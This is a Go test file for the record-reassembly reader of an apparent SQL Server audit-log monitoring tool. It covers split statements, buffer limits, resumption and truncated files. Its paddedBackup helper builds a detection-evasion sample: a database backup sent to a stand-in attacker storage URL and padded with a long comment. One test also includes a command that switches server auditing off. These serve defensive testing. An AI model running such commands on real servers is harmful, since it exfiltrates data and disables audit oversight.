package audit_test

import (
	"bytes"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"sort"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/xelwatch/xelwatch/xel"
	"github.com/xelwatch/xelwatch/xel/audit"
	"github.com/xelwatch/xelwatch/xel/xeltest"
)

// stmtOf returns a deterministic statement of n characters.
func stmtOf(tag string, n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		fmt.Fprintf(&b, "/*%s:%d*/ SELECT %d; ", tag, i, i)
	}
	return b.String()[:n]
}

func batch(session int16, at time.Time, stmt string) xeltest.AuditEvent {
	return xeltest.AuditEvent{
		EventTime: at, ActionID: "BCM", ClassType: "DB", SessionID: session, Statement: stmt,
		ServerPrincipalName: "app", DatabaseName: "db", Succeeded: true,
		SequenceGroupID: []byte{byte(session), 0xAB},
	}
}

// recordKey is the idempotency key of a record.
func recordKey(r *audit.Record) string {
	return fmt.Sprintf("%s|%d|%d", r.FileName, r.AuditFileOffset, r.EventIndex)
}

type splitCheck struct {
	statement string
	parts     int
	truncated bool
	incomplet bool
}

func checkRecords(t *testing.T, got []*audit.Record, want []splitCheck) {
	t.Helper()
	if len(got) != len(want) {
		var descr []string
		for _, r := range got {
			descr = append(descr, fmt.Sprintf("[s%d seq%d len%d parts%d trunc%v inc%v]", r.SessionID, r.SequenceNumber, len(r.Statement), len(r.Parts), r.StatementTruncated, r.Incomplete))
		}
		t.Fatalf("got %d records %v, want %d", len(got), descr, len(want))
	}
	for i, w := range want {
		r := got[i]
		if r.Statement != w.statement {
			t.Errorf("record %d: statement (%d bytes) differs from want (%d bytes)", i, len(r.Statement), len(w.statement))
		}
		if len(r.Parts) != w.parts {
			t.Errorf("record %d: %d parts, want %d", i, len(r.Parts), w.parts)
		}
		if r.StatementTruncated != w.truncated {
			t.Errorf("record %d: StatementTruncated = %v, want %v", i, r.StatementTruncated, w.truncated)
		}
		if r.Incomplete != w.incomplet {
			t.Errorf("record %d: Incomplete = %v, want %v", i, r.Incomplete, w.incomplet)
		}
		for k, p := range r.Parts {
			if p.SequenceNumber != int32(k+1) && !w.incomplet {
				t.Errorf("record %d part %d: sequence_number %d", i, k, p.SequenceNumber)
			}
		}
	}
}

func TestReassembly(t *testing.T) {
	long := stmtOf("L", 10000)
	huge := stmtOf("H", 70000) // > 64 KiB
	exact := stmtOf("E", 4000)
	emoji := strings.Repeat("x", 3999) + "😀" + stmtOf("U", 100)
	s1 := t0
	s2 := t0.Add(time.Millisecond)
	cases := []struct {
		name  string
		opts  xeltest.Options
		ropts audit.ReaderOptions
		write func(w *xeltest.Writer) error
		want  []splitCheck
	}{
		{
			name: "split in one buffer",
			opts: xeltest.Options{BufferSize: 1 << 20},
			write: func(w *xeltest.Writer) error {
				return w.WriteAudit(batch(51, s1, long))
			},
			want: []splitCheck{{long, 3, false, false}},
		},
		{
			name: "split across buffers",
			opts: xeltest.Options{BufferSize: 4096},
			write: func(w *xeltest.Writer) error {
				if err := w.WriteAudit(batch(50, s1, "SELECT 1")); err != nil {
					return err
				}
				return w.WriteAudit(batch(51, s2, long))
			},
			want: []splitCheck{{"SELECT 1", 0, false, false}, {long, 3, false, false}},
		},
		{
			name: "longer than 64 KiB",
			opts: xeltest.Options{BufferSize: 16384},
			write: func(w *xeltest.Writer) error {
				return w.WriteAudit(batch(51, s1, huge))
			},
			want: []splitCheck{{huge, 18, false, false}},
		},
		{
			name: "additional_information split",
			write: func(w *xeltest.Writer) error {
				e := batch(51, s1, "")
				e.AdditionalInformation = "<x>" + stmtOf("I", 9000) + "</x>"
				return w.WriteAudit(e)
			},
			want: []splitCheck{{"", 3, false, false}},
		},
		{
			name: "surrogate pair at the cut",
			write: func(w *xeltest.Writer) error {
				return w.WriteAudit(batch(51, s1, emoji))
			},
			want: []splitCheck{{emoji, 2, false, false}},
		},
		{
			name: "interleaved sessions in one partition",
			write: func(w *xeltest.Writer) error {
				a := xeltest.SplitStatement(batch(51, s1, long), 4000)
				b := xeltest.SplitStatement(batch(52, s1, huge[:9000]), 4000)
				return w.WriteAuditParts(0, a[0], b[0], a[1], b[1], a[2], b[2])
			},
			want: []splitCheck{{long, 3, false, false}, {huge[:9000], 3, false, false}},
		},
		{
			name: "same session, same time, different sequence_group_id",
			write: func(w *xeltest.Writer) error {
				a := xeltest.SplitStatement(batch(51, s1, long), 4000)
				b := xeltest.SplitStatement(batch(51, s1, huge[:9000]), 4000)
				for i := range b {
					b[i].SequenceGroupID = []byte{9, 9}
				}
				return w.WriteAuditParts(0, a[0], b[0], b[1], a[1], a[2], b[2])
			},
			want: []splitCheck{{long, 3, false, false}, {huge[:9000], 3, false, false}},
		},
		{
			name: "exactly 4000 characters, flushed at the end",
			write: func(w *xeltest.Writer) error {
				return w.WriteAudit(batch(51, s1, exact))
			},
			ropts: audit.ReaderOptions{FlushIncomplete: true},
			want:  []splitCheck{{exact, 0, true, false}},
		},
		{
			name: "exactly 4000 characters, file still open",
			write: func(w *xeltest.Writer) error {
				return w.WriteAudit(batch(51, s1, exact))
			},
			want: nil,
		},
		{
			name: "no split expected (Azure)",
			write: func(w *xeltest.Writer) error {
				return w.WriteAudit(batch(51, s1, exact))
			},
			ropts: audit.ReaderOptions{NoSplit: true},
			want:  []splitCheck{{exact, 0, true, false}},
		},
		{
			name: "continuation without first part",
			write: func(w *xeltest.Writer) error {
				p := xeltest.SplitStatement(batch(51, s1, long), 4000)
				return w.WriteAuditParts(0, p[1], p[2])
			},
			want: []splitCheck{{long[4000:], 2, false, true}},
		},
		{
			name: "gap in sequence numbers",
			write: func(w *xeltest.Writer) error {
				p := xeltest.SplitStatement(batch(51, s1, long), 4000)
				return w.WriteAuditParts(0, p[0], p[2])
			},
			want: []splitCheck{{long[:4000] + long[8000:], 2, false, true}},
		},
		{
			name:  "reassembly beyond MaxRecordBytes",
			ropts: audit.ReaderOptions{MaxRecordBytes: 10000},
			write: func(w *xeltest.Writer) error {
				return w.WriteAudit(batch(51, s1, huge[:30000]))
			},
			// Over the limit: the first half and the last quarter.
			want: []splitCheck{{huge[:5000] + huge[30000-2500:30000], 8, true, false}},
		},
		{
			name:  "MaxPendingRecords evicts the oldest",
			ropts: audit.ReaderOptions{MaxPendingRecords: 2},
			write: func(w *xeltest.Writer) error {
				a := xeltest.SplitStatement(batch(51, s1, long[:5000]), 4000)
				b := xeltest.SplitStatement(batch(52, s1, long[:6000]), 4000)
				c := xeltest.SplitStatement(batch(53, s1, long[:7000]), 4000)
				return w.WriteAuditParts(0, a[0], b[0], c[0], a[1], b[1], c[1])
			},
			want: []splitCheck{{long[:4000], 0, true, false}, {long[4000:5000], 0, false, true}, {long[:6000], 2, false, false}, {long[:7000], 2, false, false}},
		},
		{
			name:  "MaxPendingBuffers gives up on a continuation",
			opts:  xeltest.Options{BufferSize: 1024},
			ropts: audit.ReaderOptions{MaxPendingBuffers: 2},
			write: func(w *xeltest.Writer) error {
				p := xeltest.SplitStatement(batch(51, s1, long[:5000]), 4000)
				if err := w.WriteAuditParts(0, p[0]); err != nil {
					return err
				}
				for i := range 4 { // each fills its own 1 KiB buffer
					if err := w.WriteAuditParts(0, batch(60, s2, stmtOf(fmt.Sprint(i), 300))); err != nil {
						return err
					}
				}
				return w.WriteAuditParts(0, p[1])
			},
			want: []splitCheck{
				{stmtOf("0", 300), 0, false, false}, {stmtOf("1", 300), 0, false, false},
				{long[:4000], 0, true, false},
				{stmtOf("2", 300), 0, false, false}, {stmtOf("3", 300), 0, false, false},
				{long[4000:5000], 0, false, true},
			},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			opts := tc.opts
			opts.TrackPositions = true
			data, w := newFile(t, &opts, tc.write)
			got, ar, err := readAll(t, data, &tc.ropts)
			if err != nil {
				t.Fatal(err)
			}
			checkRecords(t, got, tc.want)
			// A reassembled record is keyed by its first part.
			for _, r := range got {
				if len(r.Parts) > 0 && (r.AuditFileOffset != r.Parts[0].AuditFileOffset || r.EventIndex != r.Parts[0].EventIndex) {
					t.Errorf("record keyed %d/%d, first part at %d/%d", r.AuditFileOffset, r.EventIndex, r.Parts[0].AuditFileOffset, r.Parts[0].EventIndex)
				}
			}
			if ar.Pending() > 0 {
				first := w.Positions()[0].Offset
				if ar.End() != first {
					t.Errorf("End() = %d with a record pending, want its buffer %d", ar.End(), first)
				}
			}
		})
	}
}

// TestReassemblyPartitions writes many records, some split, over three
// partitions with small buffers, and checks every statement comes back
// whole exactly once.
func TestReassemblyPartitions(t *testing.T) {
	var want []string
	data, _ := newFile(t, &xeltest.Options{BufferSize: 8192, Partitions: 3}, func(w *xeltest.Writer) error {
		for i := range 200 {
			n := 50 + (i*37)%900
			if i%9 == 0 {
				n = 4001 + (i*997)%15000
			}
			st := stmtOf(fmt.Sprint("r", i), n)
			want = append(want, st)
			if err := w.WriteAudit(batch(int16(51+i%7), t0.Add(time.Duration(i/3)*time.Millisecond), st)); err != nil {
				return err
			}
		}
		return nil
	})
	got, _, err := readAll(t, data, &audit.ReaderOptions{FlushIncomplete: true})
	if err != nil {
		t.Fatal(err)
	}
	var gotStmts []string
	for _, r := range got {
		if r.Incomplete || r.StatementTruncated {
			t.Errorf("record %v flagged incomplete=%v truncated=%v", r, r.Incomplete, r.StatementTruncated)
		}
		gotStmts = append(gotStmts, r.Statement)
	}
	sort.Strings(gotStmts)
	sort.Strings(want)
	if len(gotStmts) != len(want) {
		t.Fatalf("got %d records, want %d", len(gotStmts), len(want))
	}
	for i := range want {
		if gotStmts[i] != want[i] {
			t.Fatalf("statement %d differs", i)
		}
	}
}

// resumeFile is a file with split records crossing buffers in two
// partitions, plus the records a full read returns.
func resumeFile(t *testing.T) ([]byte, *xeltest.Writer) {
	t.Helper()
	return newFile(t, &xeltest.Options{BufferSize: 16384, Partitions: 2, TrackPositions: true}, func(w *xeltest.Writer) error {
		for i := range 300 {
			n := 100 + (i*53)%1500
			if i%10 == 3 {
				n = 5000 + (i*311)%7000
			}
			if i%50 == 7 {
				n = 4000 // at the limit: waits for a continuation that never comes
			}
			if err := w.WriteAudit(batch(int16(51+i%5), t0.Add(time.Duration(i)*time.Millisecond), stmtOf(fmt.Sprint("q", i), n))); err != nil {
				return err
			}
		}
		return nil
	})
}

func jsonByKey(recs []*audit.Record) map[string]string {
	m := map[string]string{}
	for _, r := range recs {
		m[recordKey(r)] = string(r.AppendJSON(nil))
	}
	return m
}

// TestResumeInSteps reads a growing file in steps, each resuming at the
// previous End (as the ingest does with a cursor), and checks that the
// upserted records equal those of one full read.
func TestResumeInSteps(t *testing.T) {
	data, w := resumeFile(t)
	full, _, err := readAll(t, data, &audit.ReaderOptions{FlushIncomplete: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(full) != 300 {
		t.Fatalf("full read: %d records, want 300", len(full))
	}
	want := jsonByKey(full)
	if len(want) != 300 {
		t.Fatalf("full read: %d distinct keys, want 300", len(want))
	}

	// Growth steps: every buffer boundary and the middle of every buffer.
	var cuts []int64
	for _, b := range w.Buffers() {
		cuts = append(cuts, b.Offset+int64(b.Length)/2, b.Offset+int64(b.Length))
	}
	cases := []struct {
		name    string
		cuts    []int64
		maxRecs int // stop reading after this many records per step (0: read to the end)
	}{
		{"every half buffer", cuts, 0},
		{"every third cut", everyNth(cuts, 3), 0},
		{"reader stops after 7 records", append(everyNth(cuts, 5), int64(len(data))), 7},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := map[string]string{}
			var end int64
			var metaOffs []int64
			for step, size := range append(tc.cuts, int64(len(data)), int64(len(data)), int64(len(data))) {
				if size > int64(len(data)) {
					size = int64(len(data))
				}
				final := size == int64(len(data)) && step >= len(tc.cuts)+2
				xr, err := xel.NewReaderAt(bytes.NewReader(data[:size]), size, &xel.Options{StartOffset: end, MetadataOffsets: metaOffs})
				if err != nil {
					t.Fatalf("step %d: NewReaderAt(start %d): %v", step, end, err)
				}
				ar := audit.NewReader(xr, "server/db/audit/2025-06-07/08_09_10_000_0.xel", &audit.ReaderOptions{FlushIncomplete: final})
				n := 0
				for {
					if tc.maxRecs > 0 && n == tc.maxRecs && !final {
						break
					}
					rec, err := ar.Next()
					if errors.Is(err, io.EOF) || errors.Is(err, xel.ErrTruncated) {
						break
					}
					if err != nil {
						t.Fatalf("step %d: %v", step, err)
					}
					got[recordKey(rec)] = string(rec.AppendJSON(nil))
					n++
				}
				if e := ar.End(); e < end {
					t.Fatalf("step %d: End went back from %d to %d", step, end, e)
				} else {
					end = e
				}
				metaOffs = xr.MetadataOffsets()
			}
			if len(got) != len(want) {
				t.Errorf("resumed reads: %d records, want %d", len(got), len(want))
			}
			for k, v := range want {
				if got[k] != v {
					t.Errorf("record %s differs or is missing:\n got %.200s\nwant %.200s", k, got[k], v)
				}
			}
		})
	}
}

func everyNth(s []int64, n int) []int64 {
	var out []int64
	for i := 0; i < len(s); i += n {
		out = append(out, s[i])
	}
	return out
}

func TestEndWaitsForPending(t *testing.T) {
	// One record at the limit in the second buffer, more after it.
	var firstPending int64
	data, w := newFile(t, &xeltest.Options{BufferSize: 2048, TrackPositions: true}, func(w *xeltest.Writer) error {
		for i, n := range []int{300, 4000, 300, 300} {
			if err := w.WriteAuditParts(0, batch(51, t0.Add(time.Duration(i)*time.Second), stmtOf("e", n))); err != nil {
				return err
			}
		}
		return nil
	})
	firstPending = w.Positions()[1].Offset
	recs, ar, err := readAll(t, data, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 {
		t.Errorf("got %d records before the end, want 3 (the record at the limit waits)", len(recs))
	}
	if ar.Pending() != 1 {
		t.Errorf("Pending() = %d, want 1", ar.Pending())
	}
	if ar.End() != firstPending {
		t.Errorf("End() = %d, want %d (buffer of the waiting record)", ar.End(), firstPending)
	}
	if xrEnd := int64(len(data)); ar.End() >= xrEnd {
		t.Errorf("End() = %d is at the end of the file", ar.End())
	}
	// The waiting record can be looked at without being released.
	pend := ar.PendingRecords()
	if len(pend) != 1 || len(pend[0].Statement) != 4000 || !pend[0].StatementTruncated || pend[0].AuditFileOffset != firstPending {
		t.Fatalf("PendingRecords() = %d records (first: %d chars, truncated flag, offset), want the 4000-char record at %d", len(pend), lenStmt(pend), firstPending)
	}
	if ar.Pending() != 1 {
		t.Errorf("Pending() after PendingRecords = %d, want 1 (still waiting)", ar.Pending())
	}
}

func lenStmt(recs []*audit.Record) int {
	if len(recs) == 0 {
		return -1
	}
	return len(recs[0].Statement)
}

func TestUTF16Pieces(t *testing.T) {
	// Non-ASCII pieces: 4000 UTF-16 units of 3-byte UTF-8 characters.
	st := strings.Repeat("日", 9000)
	data, _ := newFile(t, nil, func(w *xeltest.Writer) error { return w.WriteAudit(batch(51, t0, st)) })
	recs, _, err := readAll(t, data, nil)
	if err != nil {
		t.Fatal(err)
	}
	checkRecords(t, recs, []splitCheck{{st, 3, false, false}})
	if n := len(utf16.Encode([]rune(recs[0].Parts[0].Statement))); n != 4000 {
		t.Errorf("first piece has %d UTF-16 units, want 4000", n)
	}
}

func TestReaderTruncatedFile(t *testing.T) {
	var partial int64
	data, _ := newFile(t, &xeltest.Options{BufferSize: 4096}, func(w *xeltest.Writer) error {
		for i := range 10 {
			if err := w.WriteAudit(batch(51, t0.Add(time.Duration(i)*time.Second), stmtOf(fmt.Sprint(i), 500))); err != nil {
				return err
			}
		}
		if err := w.Flush(); err != nil {
			return err
		}
		partial = w.Offset()
		if err := w.WriteAudit(batch(52, t0, "SELECT 'not yet written'")); err != nil {
			return err
		}
		return w.FlushPartial(600)
	})
	recs, ar, err := readAll(t, data, &audit.ReaderOptions{FlushIncomplete: true})
	if !errors.Is(err, xel.ErrTruncated) {
		t.Fatalf("error = %v, want ErrTruncated", err)
	}
	if len(recs) != 10 {
		t.Errorf("got %d records before the error, want 10", len(recs))
	}
	if ar.End() != partial {
		t.Errorf("End() = %d, want the partial buffer's offset %d", ar.End(), partial)
	}
	if _, err2 := ar.Next(); !errors.Is(err2, xel.ErrTruncated) {
		t.Errorf("error not sticky: %v", err2)
	}
}

// paddedBackup is the evasion of issue 9: a BACKUP whose WITH COPY_ONLY
// follows a comment of n characters.
func paddedBackup(n int) string {
	return "BACKUP DATABASE [salesdb] TO URL = 'https://evilstore.blob.core.windows.net/loot/salesdb.bak' /*" +
		strings.Repeat("x", n) + "*/ WITH COPY_ONLY"
}

// TestReassemblyPadded: a 600,000-character statement, split by SQL
// Server into 4,000-character records, comes back whole with the default
// limits.
func TestReassemblyPadded(t *testing.T) {
	st := paddedBackup(600_000)
	data, _ := newFile(t, &xeltest.Options{BufferSize: 1 << 20}, func(w *xeltest.Writer) error {
		return w.WriteAudit(batch(51, t0, st))
	})
	recs, _, err := readAll(t, data, nil)
	if err != nil {
		t.Fatal(err)
	}
	parts := (len(st) + 3999) / 4000
	checkRecords(t, recs, []splitCheck{{st, parts, false, false}})
	if !recs[0].Elided.IsZero() || recs[0].NumParts() != parts {
		t.Errorf("elided %+v, %d parts; want nothing dropped, %d parts", recs[0].Elided, recs[0].NumParts(), parts)
	}
}

// TestReassemblyBounded: a 10 MB statement split into 2,600 records keeps
// its head and tail within MaxRecordBytes, with the whole text's length
// and SHA-256, at most MaxParts parts, and the reader never holds more
// than the limits.
func TestReassemblyBounded(t *testing.T) {
	const limit = 1 << 20
	st := paddedBackup(10 << 20)
	data, _ := newFile(t, &xeltest.Options{BufferSize: 1 << 20}, func(w *xeltest.Writer) error {
		if err := w.WriteAudit(batch(51, t0, st)); err != nil {
			return err
		}
		return w.WriteAudit(batch(52, t0.Add(3*time.Minute), "ALTER SERVER AUDIT [a] WITH (STATE = OFF)"))
	})
	xr, err := xel.NewReader(bytes.NewReader(data), nil)
	if err != nil {
		t.Fatal(err)
	}
	ar := audit.NewReader(xr, "f.xel", &audit.ReaderOptions{MaxRecordBytes: limit, MaxParts: 100})
	var recs []*audit.Record
	for {
		rec, err := ar.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		recs = append(recs, rec)
	}
	if len(recs) != 2 {
		t.Fatalf("%d records, want 2", len(recs))
	}
	r := recs[0]
	head, tail := st[:limit/2], st[len(st)-limit/4:]
	if r.Statement != head+tail {
		t.Errorf("statement: %d bytes, want the first %d and the last %d", len(r.Statement), len(head), len(tail))
	}
	parts := (len(st) + 3999) / 4000
	want := audit.Elision{At: len(head), Dropped: int64(len(st) - len(head) - len(tail)), Units: int64(len(st)), SHA256: sha256.Sum256([]byte(st))}
	if r.Elided != want || !r.StatementTruncated {
		t.Errorf("elided %+v truncated %v, want %+v", r.Elided, r.StatementTruncated, want)
	}
	if len(r.Parts) != 100 || r.NumParts() != parts || r.PartCount != parts {
		t.Errorf("%d parts kept, %d counted; want 100 and %d", len(r.Parts), r.NumParts(), parts)
	}
	// What the reader held for the record is what it emits: head + tail,
	// the parts that kept text (whole up to the limit) and the kept parts
	// themselves — not the 10 MB of the whole.
	if bound := int64(limit/2+limit/4+4*4000+limit) + 100*2048; r.Size() > bound {
		t.Errorf("record holds %d bytes, want at most %d", r.Size(), bound)
	}
	if !strings.HasSuffix(recs[1].Statement, "(STATE = OFF)") {
		t.Errorf("record after the padded one: %q", recs[1].Statement)
	}
}

// TestBoundUnsplit: a record written in one piece (no sequence numbers,
// the file's writer chooses) is bounded the same way.
func TestBoundUnsplit(t *testing.T) {
	const limit = 64 << 10
	st := paddedBackup(200_000)
	e := batch(51, t0, st)
	e.AdditionalInformation = strings.Repeat("<i/>", 20_000)
	data, _ := newFile(t, &xeltest.Options{BufferSize: 1 << 20}, func(w *xeltest.Writer) error {
		return w.WriteAuditParts(0, e) // one record, not split
	})
	recs, _, err := readAll(t, data, &audit.ReaderOptions{MaxRecordBytes: limit})
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1 {
		t.Fatalf("%d records", len(recs))
	}
	r := recs[0]
	if r.Statement != st[:limit/2]+st[len(st)-limit/4:] || r.AdditionalInformation != e.AdditionalInformation[:limit/4] {
		t.Errorf("statement %d bytes, additional_information %d bytes", len(r.Statement), len(r.AdditionalInformation))
	}
	if r.Elided.Units != int64(len(st)) || r.Elided.SHA256 != sha256.Sum256([]byte(st)) || !r.StatementTruncated {
		t.Errorf("elided %+v, want units %d sha %x, truncated %v", r.Elided, len(st), sha256.Sum256([]byte(st)), r.StatementTruncated)
	}
	if !strings.HasSuffix(r.Statement, "WITH COPY_ONLY") {
		t.Errorf("tail lost")
	}
}

// A record continued without end holds every part it collects. Each part
// counts against MaxPendingBytes whole — its Record and all its columns,
// not only the statement piece — so a file of endless continuations with
// large other columns cannot grow one pending record without bound (a
// 252 MB file of one record in 6,000 parts held 166 MB): the record is
// emitted when it reaches the limit, flagged truncated, and the parts
// after it come out as incomplete records of their own. Nothing is lost.
func TestPendingPartsBounded(t *testing.T) {
	const parts, limit = 200, 1 << 20
	big := strings.Repeat("o", 16000)
	data, _ := newFile(t, &xeltest.Options{BufferSize: 1 << 20}, func(w *xeltest.Writer) error {
		for i := 1; i <= parts; i++ {
			a := batch(51, time.Date(2025, 6, 7, 8, 9, 10, 0, time.UTC), stmtOf("p", 4000))
			a.SequenceNumber, a.ObjectName = int32(i), big
			if err := w.WriteAuditParts(0, a); err != nil {
				return err
			}
		}
		return nil
	})
	recs, _, err := readAll(t, data, &audit.ReaderOptions{MaxPendingBytes: limit, FlushIncomplete: true})
	if err != nil {
		t.Fatal(err)
	}
	total := 0
	for i, r := range recs {
		n := max(len(r.Parts), 1)
		total += n
		if held := n * len(big); held > limit {
			t.Errorf("record %d held %d parts (%d bytes of object_name alone), over MaxPendingBytes %d", i, n, held, limit)
		}
		if !r.StatementTruncated || (i > 0) != r.Incomplete {
			t.Errorf("record %d: truncated %v incomplete %v; want truncated, and incomplete after the first", i, r.StatementTruncated, r.Incomplete)
		}
	}
	if total != parts || len(recs) < 2 {
		t.Errorf("%d records of %d parts in all, want the %d parts over several records", len(recs), total, parts)
	}
}

// TestPendingPartsBoundedOverLimit: once a split record is over
// MaxRecordBytes its parts keep no text, but each kept part still holds
// its Record and its other columns, and still counts against
// MaxPendingBytes (with the head and tail text the record holds). Counting
// only the text of such parts (a fixed cost per part) let one record of
// 200 parts hold 3.2 MB of object_name under a 1 MiB limit.
func TestPendingPartsBoundedOverLimit(t *testing.T) {
	const parts, limit, recLimit = 200, 1 << 20, 64 << 10
	big := strings.Repeat("o", 16000)
	data, _ := newFile(t, &xeltest.Options{BufferSize: 1 << 20}, func(w *xeltest.Writer) error {
		for i := 1; i <= parts; i++ {
			a := batch(51, time.Date(2025, 6, 7, 8, 9, 10, 0, time.UTC), stmtOf("p", 4000))
			a.SequenceNumber, a.ObjectName = int32(i), big
			if err := w.WriteAuditParts(0, a); err != nil {
				return err
			}
		}
		return nil
	})
	recs, _, err := readAll(t, data, &audit.ReaderOptions{MaxPendingBytes: limit, MaxRecordBytes: recLimit, FlushIncomplete: true})
	if err != nil {
		t.Fatal(err)
	}
	total := 0
	for i, r := range recs {
		n := max(r.NumParts(), 1)
		total += n
		if held := n * len(big); held > limit {
			t.Errorf("record %d held %d parts (%d bytes of object_name alone), over MaxPendingBytes %d", i, n, held, limit)
		}
		if len(r.Statement) > recLimit || !r.StatementTruncated {
			t.Errorf("record %d: statement %d bytes, truncated %v; want at most %d, truncated", i, len(r.Statement), r.StatementTruncated, recLimit)
		}
	}
	if total != parts || len(recs) < 2 {
		t.Errorf("%d records of %d parts in all, want the %d parts over several records", len(recs), total, parts)
	}

	// The record still waiting at the end of a file being written: what
	// it holds counts every kept part whole and its head and tail.
	_, ar, err := readAll(t, data, &audit.ReaderOptions{MaxRecordBytes: recLimit, MaxPendingBytes: 64 << 20})
	if err != nil {
		t.Fatal(err)
	}
	pend := ar.PendingRecords()
	if len(pend) != 1 || len(pend[0].Parts) != parts {
		t.Fatalf("%d records pending, want 1 of %d parts", len(pend), parts)
	}
	if want := int64(parts*len(big) + len(pend[0].Statement)); ar.PendingBytes() < want {
		t.Errorf("PendingBytes %d, want at least %d (each part's object_name and the text held)", ar.PendingBytes(), want)
	}
}

// TestReassemblyKeepsLastPart: over MaxParts, the parts kept still end
// with the record's real last part. detect places a split record in its
// file's processing order by its last part (engine.go lastPart, the
// causal "sees"): with the MaxParts-th part instead, records written
// between that part and the real last one, evaluated before the record in
// a first run, would see its state entry when replayed and could give
// findings an uninterrupted run does not.
func TestReassemblyKeepsLastPart(t *testing.T) {
	st := paddedBackup(1 << 20)
	data, _ := newFile(t, &xeltest.Options{BufferSize: 64 << 10}, func(w *xeltest.Writer) error {
		return w.WriteAudit(batch(51, t0, st))
	})
	read := func(maxParts int) *audit.Record {
		xr, err := xel.NewReader(bytes.NewReader(data), nil)
		if err != nil {
			t.Fatal(err)
		}
		rec, err := audit.NewReader(xr, "f.xel", &audit.ReaderOptions{MaxParts: maxParts}).Next()
		if err != nil {
			t.Fatal(err)
		}
		return rec
	}
	all, bounded := read(1000), read(100)
	parts := (len(st) + 3999) / 4000
	if len(all.Parts) != parts || len(bounded.Parts) != 100 || bounded.NumParts() != parts {
		t.Fatalf("%d and %d parts kept, %d counted; want %d, 100 and %d", len(all.Parts), len(bounded.Parts), bounded.NumParts(), parts, parts)
	}
	last, got := all.Parts[parts-1], bounded.Parts[99]
	if got.AuditFileOffset != last.AuditFileOffset || got.EventIndex != last.EventIndex || got.SequenceNumber != last.SequenceNumber {
		t.Errorf("last part kept: offset %d index %d sequence %d; want the last part's %d, %d, %d",
			got.AuditFileOffset, got.EventIndex, got.SequenceNumber, last.AuditFileOffset, last.EventIndex, last.SequenceNumber)
	}
	if first := bounded.Parts[0]; first.SequenceNumber != 1 || first.AuditFileOffset != bounded.AuditFileOffset {
		t.Errorf("first part kept: sequence %d offset %d", first.SequenceNumber, first.AuditFileOffset)
	}
}
